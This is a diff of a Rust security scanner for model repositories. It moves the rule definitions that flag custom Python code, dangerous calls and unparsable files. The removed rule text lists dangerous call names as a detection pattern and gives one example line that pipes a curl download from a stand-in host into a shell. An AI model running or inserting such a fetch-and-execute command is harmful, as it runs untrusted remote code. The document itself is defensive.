@@ -12,83 +12,11 @@
 
 use super::pyast;
 use crate::finding::{abbreviate, Location};
+pub use crate::formats::repo::rules::{PYTHON_CUSTOM_CODE, PYTHON_DANGEROUS_CALL, PYTHON_UNPARSED};
 use crate::rule::Rule;
 use crate::scan::ScanCtx;
 use crate::severity::Severity;
 use std::collections::BTreeMap;
-
-/// Python code in a model repository.
-pub static PYTHON_CUSTOM_CODE: Rule = Rule {
-    id: "python-custom-code",
-    severity: Severity::Low,
-    summary: "The repository ships Python code, which `trust_remote_code=True` runs on load.",
-    docs: r#"
-## Why it matters
-`transformers` loads custom model, configuration and tokenizer classes from a
-repository's own `.py` files when the caller passes `trust_remote_code=True`. That code
-runs with the caller's privileges during `from_pretrained`, before any weights are used.
-
-## What to do
-Read the code, pin the repository revision you reviewed (`revision=<commit>`), and load
-with `trust_remote_code=True` only for that revision. Prefer models supported natively.
-"#,
-};
-
-/// A call that runs commands, evaluates code, unpickles or downloads.
-pub static PYTHON_DANGEROUS_CALL: Rule = Rule {
-    id: "python-dangerous-call",
-    severity: Severity::High,
-    summary:
-        "Python code calls something that runs commands, evaluates code, unpickles or downloads.",
-    docs: r#"
-## Why it matters
-Custom modelling code has no reason to start processes (`os.system`, `subprocess`),
-evaluate strings (`eval`, `exec`, `__import__`), deserialise pickles (`pickle.load`,
-`torch.load` without `weights_only=True`) or fetch more code and data from the network.
-Each of these runs with the privileges of whoever loads the model.
-
-Names are resolved the way Python binds them before they are judged: `import os as o;
-o.system(...)`, `from subprocess import Popen as P`, `x = os; x.system(...)`,
-`getattr(os, "system")(...)` and `__import__("os").system(...)` are all `os.system`,
-and the evidence shows the chain. Process spawning in every form (`os.exec*`,
-`os.spawn*`, `os.posix_spawn`, `pty.spawn`, `asyncio.create_subprocess_*`), nested
-unpicklers (`pickle`, `dill`, `cloudpickle`, `marshal`, `joblib.load`,
-`numpy.load(allow_pickle=True)`, `torch.load` without `weights_only=True`), `exec`,
-`eval`, `compile`, dynamic imports and network clients are flagged, as is anything
-else the pickle denylist rates critical (`runpy`, `ctypes`, `_posixsubprocess`). A
-dangerous callable passed as a value (`Thread(target=os.system)`) is flagged too.
-
-## Example
-`os.system("curl https://example.invalid/x.sh | sh")` in `modeling_custom.py`.
-
-## What to do
-Read the flagged line. Do not load the repository with `trust_remote_code=True` until
-you understand why the call is there.
-"#,
-};
-
-/// The parser could not read the file, or it nests too deep to analyse.
-pub static PYTHON_UNPARSED: Rule = Rule {
-    id: "python-unparsed",
-    severity: Severity::Medium,
-    summary: "A Python file could not be parsed, so its calls were only found by a token scan.",
-    docs: r#"
-## Why it matters
-Calls are judged after resolving names through imports and assignments, which needs
-the file's syntax tree. A file that does not parse was scanned by a light tokenizer
-instead, which misses aliases (`x = os; x.system(...)`) and `getattr` tricks.
-
-A syntax error is reported at **medium** severity: Python cannot import the file
-either (`trust_remote_code` fails), unless it uses syntax newer than the parser
-knows (Python 3.12 f-strings, `type` statements). A file whose expressions or
-blocks nest deeper than modelvet analyses (300 levels) is **high**: Python may
-still import it, and nothing vouches for what it does.
-
-## What to do
-Read the file. A model repository has no reason to ship code that is
-machine-generated to this depth or that does not parse.
-"#,
-};
 
 /// Rules of the Python scanner.
 pub const RULES: &[&Rule] = &[
